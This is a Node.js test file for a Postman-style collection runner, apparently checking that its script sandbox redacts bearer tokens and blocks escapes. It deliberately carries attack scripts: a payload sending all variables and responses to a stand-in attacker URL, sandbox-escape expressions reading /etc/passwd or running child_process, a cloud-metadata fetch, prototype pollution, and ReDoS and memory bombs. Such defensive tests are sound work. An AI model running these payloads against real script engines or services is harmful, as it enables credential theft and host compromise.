// SPDX-License-Identifier: Apache-2.0
// The gauntlet, threats 43 and 45: scripts. They look for the token wherever they are shown anything,
// and try to get out of the engine or to take the run with them.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { after, test } from 'node:test';
import zlib from 'node:zlib';
import { gauntlet, header, item, ORDERS } from './gauntlet.mjs';
import { serve, start, tempDir } from './lib.mjs';

const g = await gauntlet({ after });

// ---- 43 -----------------------------------------------------------------------------------------

// What a script does with all that it sees: every way out that it has.
const spread = (what) => `
pm.environment.clear(); pm.globals.clear(); pm.collectionVariables.clear();
const loot = [${what}].map((one) => typeof one === 'string' ? one : JSON.stringify(one)).join('\\n');
console.log(loot); console.error({ loot });
pm.environment.set('loot', loot); pm.globals.set('loot', loot); pm.collectionVariables.set('loot', loot);
pm.test(loot.slice(-3000), () => { throw new Error(loot); });
pm.sendRequest({ url: '${g.attacker.url}/loot', method: 'POST', body: { mode: 'raw', raw: loot } }, () => {});
pm.sendRequest('${g.attacker.url}/loot?' + encodeURIComponent(loot.slice(-2000)), () => {});
pm.cookies.jar().set('${g.attacker.url}/', 'loot', encodeURIComponent(loot.slice(-2000)), () => {});
`;
const everything = 'pm.request, pm.request.headers, pm.response, pm.response.text(), pm.response.headers, '
  + 'pm.response.status, pm.response.reason(), pm.response.cookies, pm.cookies.toObject(), pm.info, pm.environment.toObject(), '
  + 'pm.globals.toObject(), pm.collectionVariables.toObject(), pm.variables.toObject(), responseHeaders, responseBody, request, '
  + 'globalThis.postman, [...pm.response.text()].join(" "), btoa(pm.response.text().slice(-600)), encodeURIComponent(pm.response.text())';
const exported = ['--export-environment', 'e.json', '--export-globals', 'g.json', '--export-collection', 'c2.json',
  '--export-cookie-jar', 'jar.json'];

test('T43_a_service_of_up_that_echoes_and_logs_the_token_shows_it_to_nobody', async () => {
  const r = await g.attack([item('echo', 'https://echo-k2v7xw4mqa-uc.a.run.app/', { test: spread(everything) })], { args: exported });
  assert.match(r.stdout, /Authorization: Bearer eyJ[\w-]+\.[\w-]+\.\*\*\*/);
  assert.ok(g.attacker.seen.some((s) => s.startsWith('POST /loot') && s.includes('***')), 'the loot was sent');
  assert.match(g.running.out.stderr, /echo \w+ \| Authorization: Bearer \*\*\*/);
});

for (const form of ['plain', 'percent', 'json', 'base64', 'base64url', 'wrapped', 'pieces', 'headers']) {
  test(`T43_an_echo_of_the_token_is_wiped_before_a_script_sees_it_${form}`, async () => {
    g.attacker.seen.length = 0;
    const url = `${g.trusted.url}/${form}`;
    const r = await g.attack([item('quiet', url), item('echo', url, { test: spread(everything) }),
      item('later', url, { test: 'pm.execution.setNextRequest(pm.environment.get("loot").slice(-200))' })],
    { cloud: true, args: exported, goesOn: false });
    assert.equal(r.of('quiet').response.code, form === 'headers' ? 401 : 200);
    assert.match(JSON.stringify(r.of('quiet')), /\*\*\*/);
    assert.ok(g.attacker.seen.some((s) => s.startsWith('POST /loot')), 'the loot was sent');
    for (const name of ['e.json', 'g.json', 'c2.json', 'jar.json']) await readFile(join(r.dir, name));
    // The honest bytes around it are whole.
    if (form === 'plain') assert.match(r.of('quiet').response.stream.data, /Postman-Token\n[0-9a-f-]{36}\n/);
  });
}

// Answers with raw bytes that hold the token where no honest server would put it.
async function rawEcho(t) {
  const answers = {
    garbage: (token) => `${token} is what I got\r\n\r\n`,
    status: (token) => `HTTP/1.1 ${token}\r\n\r\n`,
    field: (token) => `HTTP/1.1 200 OK\r\n${token}\r\nContent-Length: 0\r\n\r\n`,
    name: (token) => `HTTP/1.1 200 OK\r\n${token.replaceAll('.', '-')}: x\r\nContent-Length: 0\r\n\r\n`,
    hints: (token) => `HTTP/1.1 103 Early Hints\r\nLink: <${token}>\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n`,
    trailer: (token) => `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\nX-T: ${token}\r\n\r\n`,
    gzip: (token) => {
      const body = zlib.gzipSync(token).toString('latin1');
      return `HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
    },
    cut: (token) => `HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n${token}`,
    location: (token) => `HTTP/1.1 302 Found\r\nLocation: ${g.attacker.url}/loot?${token}\r\nContent-Length: 0\r\n\r\n`,
    scheme: (token) => `HTTP/1.1 302 Found\r\nLocation: ${token}:x\r\nContent-Length: 0\r\n\r\n`,
    authenticate: (token) => `HTTP/1.1 401 No\r\nWWW-Authenticate: Bearer realm="${token}"\r\nContent-Length: 0\r\n\r\n`,
    cookie: (token) => `HTTP/1.1 200 OK\r\nSet-Cookie: ${token.slice(-30)}=1; Path=/\r\nContent-Length: 0\r\n\r\n`,
    disposition: (token) => `HTTP/1.1 200 OK\r\nContent-Disposition: attachment; filename="${token}.txt"\r\nContent-Length: 0\r\n\r\n`,
  };
  const server = createServer((socket) => {
    let text = '';
    socket.on('error', () => {});
    socket.on('data', (piece) => {
      text += piece.toString('latin1');
      if (!text.includes('\r\n\r\n')) return;
      const token = /authorization: bearer (\S+)/i.exec(text)?.[1] ?? 'none';
      const answer = answers[/^\w+ \/(\w*)/.exec(text)[1]] ?? (() => 'HTTP/1.1 404 No\r\nContent-Length: 0\r\n\r\n');
      socket.end(Buffer.from(answer(token), 'latin1'));
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => server.close());
  return { url: `http://127.0.0.1:${server.address().port}`, forms: Object.keys(answers) };
}

test('T43_no_odd_place_of_an_answer_shows_the_token', async (t) => {
  const raw = await rawEcho(t);
  g.attacker.seen.length = 0;
  const r = await g.attack(raw.forms.flatMap((form) => [item(form, `${raw.url}/${form}`),
    item(`${form} script`, `${raw.url}/${form}`, { test: spread(everything) })]),
  { cloud: true, args: ['--trust', raw.url, ...exported] });
  for (const form of ['garbage', 'status', 'cut']) assert.ok(r.error(form).message, form);
  assert.equal(r.of('location').response.code, 200);
  assert.ok(g.attacker.seen.some((s) => /^GET \/loot\?eyJ\S+\*\*\*/.test(s)), 'it was redirected');
  assert.match(JSON.stringify(r.of('gzip').response), /\*\*\*/);
});

// A script may choose the coding, and could undo it by itself where we don't.
const codings = { gzip: zlib.gzipSync, 'x-gzip': zlib.gzipSync, deflate: zlib.deflateSync, br: zlib.brotliCompressSync,
  zstd: zlib.zstdCompressSync, unknown: zlib.gzipSync };

test('T43_no_coding_of_an_answer_hides_the_token', async (t) => {
  const url = await serve(t, (request, response) => {
    const coding = request.headers['accept-encoding'];
    response.writeHead(200, { 'content-encoding': coding }).end(codings[coding](request.rawHeaders.join('\n')));
  });
  const r = await g.attack(Object.keys(codings).map((coding) => item(coding, { url, header: header({ 'Accept-Encoding': coding }) },
    { test: 'console.log(pm.response.text(), pm.response.stream)' })), { cloud: true, args: ['--trust', url] });
  for (const coding of Object.keys(codings)) {
    if (coding === 'unknown') assert.ok(r.error(coding).message, coding);
    else assert.match(r.of(coding).response.stream.data, /Bearer \S+\*\*\*/, coding);
  }
});

test('T43_the_arrays_of_bytes_that_newman_writes_hold_no_token', async () => {
  const r = await g.attack([item('echo', `${g.trusted.url}/plain`)], { cloud: true, args: ['--reporter-json-newman-buffers'] });
  const bytes = Buffer.from(r.of('echo').response.stream.data).toString('latin1');
  assert.match(bytes, /Bearer .*\*\*\*/s);
  assert.equal(g.tokens.in(bytes), undefined);
});

test('T43_a_script_that_reads_its_request_finds_no_token', async () => {
  const r = await g.attack([item('own', `${ORDERS}/orders`, {
    pre: "pm.request.headers.add({ key: 'X-Mine', value: '1' }); console.log('pre', pm.request.headers.toObject())",
    test: "console.log('post', pm.request.headers.toObject(), pm.request.auth, JSON.stringify(pm.request.toJSON()))" })]);
  assert.match(r.stdout, /'post'/);
  assert.match(r.stdout, /X-Mine/);
  assert.doesNotMatch(r.stdout.replaceAll(/Access-Control-\S+/g, ''), /authorization/i);
});

// ---- 45 -----------------------------------------------------------------------------------------

const ways = {
  process: 'process', require_fs: "require('fs').readFileSync('/etc/passwd')", require_child: "require('child_process').execSync('id')",
  constructor: "this.constructor.constructor('return process')().env", of_console: "console.log.constructor('return process')().pid",
  of_pm: "pm.sendRequest.constructor('return globalThis.std || globalThis.os')().open('/etc/passwd','r')",
  of_error: "(() => { try { null.x } catch (e) { return e.constructor.constructor('return require')()('fs').readFileSync('/etc/passwd') } })()",
  quickjs_std: "std.loadFile('/etc/passwd')", quickjs_os: "os.exec(['id'])", worker: "new Worker('/x.js')", load: "load('/etc/passwd')",
  fetch: "fetch('http://169.254.169.254')", xhr: 'new XMLHttpRequest()', socket: "new WebSocket('ws://127.0.0.1')", deno: 'Deno.env',
};

test('T45_nothing_of_the_host_is_in_reach_of_a_script', async () => {
  const source = Object.entries(ways).map(([name, expression]) => `
try { const got = ${expression}; console.log('${name}', 'GOT', String(got)); } catch (e) { console.log('${name}', 'REFUSED', e.name); }`).join('\n');
  const r = await g.attack([item('escape', `${g.attacker.url}/`, { test: source }),
    item('import', `${g.attacker.url}/`, { test: "import('fs').then(() => console.log('import GOT'), (e) => console.log('import REFUSED'))" })]);
  for (const name of Object.keys(ways)) assert.match(r.stdout, new RegExp(`'${name}', 'REFUSED'`), name);
  assert.doesNotMatch(r.stdout, /'GOT'|import GOT|root:x/);
});

test('T45_a_polluted_prototype_changes_no_request_and_no_report', async () => {
  const pollute = `
for (const proto of [Object.prototype, Array.prototype, Function.prototype, String.prototype]) {
  proto.header = [{ key: 'X-Polluted', value: '1' }]; proto.url = '${g.attacker.url}/polluted'; proto.toJSON = () => 'polluted';
  proto.then = (done) => done('polluted'); proto.key = 'X-Polluted'; proto.value = 'x'; proto.method = 'DELETE'; proto.identity = 'none';
}
Object.defineProperty(Object.prototype, 'name', { get() { return 'polluted'; }, set() {} });
JSON.stringify = () => '{"url":"${g.attacker.url}/polluted"}'; JSON.parse = () => ({}); Array.prototype.map = () => ['polluted'];
Map.prototype.get = () => 'polluted'; Promise.prototype.then = () => {}; Symbol.iterator; globalThis.pm = null;`;
  const literal = JSON.parse('{"__proto__": {"url": "polluted"}, "constructor": {"prototype": {"method": "DELETE"}}}');
  g.attacker.seen.length = 0;
  const r = await g.attack([item('pollute', `${ORDERS}/orders`, { pre: pollute, test: pollute }),
    { ...item('members', { ...literal, method: 'GET', url: `${ORDERS}/orders` }), ...literal },
    item('clean', `${ORDERS}/orders`, { test: "pm.test('clean', () => pm.expect({}.header).to.equal(undefined)); pm.expect(JSON.stringify({a: 1})).to.equal('{\"a\":1}')" })]);
  assert.deepEqual(r.rows.map((e) => e.item.name), ['before', 'pollute', 'members', 'clean', 'after']);
  assert.deepEqual(r.of('clean').assertions.map((a) => a.error), [undefined]);
  assert.equal(r.of('clean').response.code, 200);
  assert.deepEqual(g.attacker.seen, []);
});

// Each ends as an error of its script, with its id, and the run goes on.
const bombs = {
  loop: ['while (true) {}', /GP-JS-02|execution timeout/],
  async_loop: ['const again = () => Promise.resolve().then(again); again(); setInterval(() => {}, 1)', /GP-JS-02|execution timeout/],
  recursion: ['const f = () => f() + 1; f()', /stack|recursion/i],
  regex: ["/(a+)+$/.test('a'.repeat(40) + 'b')", /GP-JS-02|execution timeout|interrupted/],
  string: ["let s = 'x'; while (true) s += s", /string|memory|GP-JS|length/i],
  array: ['const a = []; while (true) a.push(new Array(1e6).fill(a))', /memory|GP-JS/i],
  message: ["console.log('x'.repeat(140 << 20))", /GP-JS-0\d|timeout/],
  variable: ["pm.environment.set('big', 'x'.repeat(140 << 20))", /what the script left can't be told/],
  flood: ["for (let i = 0; i < 200000; i++) console.log('x')", /more than 100000 messages/],
  requests: [`for (let i = 0; i < 2000; i++) pm.sendRequest('${g.attacker.url}/slow', () => {})`, /more than 1000 requests/],
  deep: ["let a = []; for (let i = 0; i < 1e6; i++) a = [a]; pm.environment.set('deep', a); console.log(a); JSON.stringify(a)", /stack|deep|memory|GP-JS|timeout/i],
  getter: ["Object.defineProperty(pm.request, 'url', { get() { throw new Error('gotcha') } }); pm.request.url", /gotcha/],
  thrown: ['throw { get message() { throw this }, toString() { throw this } }', /./],
};

for (const [name, [source, says]] of Object.entries(bombs)) {
  test(`T45_a_script_takes_only_itself_down_${name}`, async () => {
    const where = ['loop', 'thrown'].includes(name) ? ['pre', 'test'] : ['test'];
    const limit = String(says).includes('timeout') ? '1000' : '30000'; // the others have limits of their own
    const r = await g.attack(where.map((when) => item(when, `${g.attacker.url}/${when}`, { [when]: source })),
      { args: ['--timeout-script', limit, '--reporter-cli-no-console'] });
    assert.equal(r.code, 1, r.stdout.slice(-2000));
    const told = r.report.run.failures.map((f) => `${f.error.name} ${f.error.message} ${f.error.id ?? f.error.code}`).join('\n') + r.stdout.slice(-3000);
    assert.match(told, says);
  });
}

test('T45_a_worker_that_is_killed_is_started_again', async (t) => {
  const seen = [];
  const url = await serve(t, async (request, response) => { // asked in the middle of a script
    for (const pid of await workers()) { process.kill(pid, 'SIGKILL'); seen.push(pid); }
    response.end('x');
  });
  const r = await g.attack([item('killed', `${g.attacker.url}/`, { test: `pm.sendRequest('${url}/', () => console.log('survived'))` }),
    item('next', `${g.attacker.url}/`, { test: "pm.test('next', () => pm.expect(1).to.equal(1))" })]);
  assert.equal(seen.length, 1);
  assert.match(r.stdout, /script worker was ended by signal 9.*\n(.*\n)*.*\[GP-JS-03\]/);
  assert.deepEqual(r.of('next').assertions.map((a) => a.error), [undefined]);
});

test('T45_a_script_that_never_ends_does_not_hold_the_person', async (t) => {
  const dir = await tempDir(t);
  let begin;
  const begun = new Promise((resolve) => { begin = resolve; });
  const url = await serve(t, (request, response) => { response.end(); begin(); });
  await writeFile(join(dir, 'c.json'), JSON.stringify({ info: { name: 'c' }, item: [
    item('loop', `${url}/`, { test: 'while (true) {}' }), item('never', `${url}/never`)] }));
  const running = await start(t, ['run', 'c.json', '-r', 'cli,json', '--reporter-json-export', 'r.json'],
    { env: g.env, cwd: dir, ready: /^/ });
  await begun;
  process.kill(running.pid, 'SIGINT');
  while (!running.out.stderr.includes('once more stops at once')) await new Promise((go) => setTimeout(go, 10));
  process.kill(running.pid, 'SIGTERM');
  const ended = await running.closed;
  assert.deepEqual([ended.code, ended.signal], [1, null]);
  assert.match(ended.stdout, /interrupted: what was under way is dropped/);
  const report = JSON.parse(await readFile(join(dir, 'r.json'), 'utf8'));
  assert.match(report.run.failures.at(-1).error.message, /interrupted/);
  assert.deepEqual(await workers(), []);
});

/** The script workers of the gatepost that this process started. */
async function workers() {
  const found = [];
  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
    try {
      const [stat, line] = await Promise.all(['stat', 'cmdline'].map((name) => readFile(join('/proc', pid, name), 'utf8')));
      const parent = stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1];
      const above = await readFile(join('/proc', parent, 'stat'), 'utf8');
      const ours = Number(above.slice(above.lastIndexOf(')') + 2).split(' ')[1]) === process.pid;
      if (line.startsWith('gatepost-script') && ours) found.push(Number(pid));
    } catch { /* it went meanwhile */ }
  }
  return found;
}
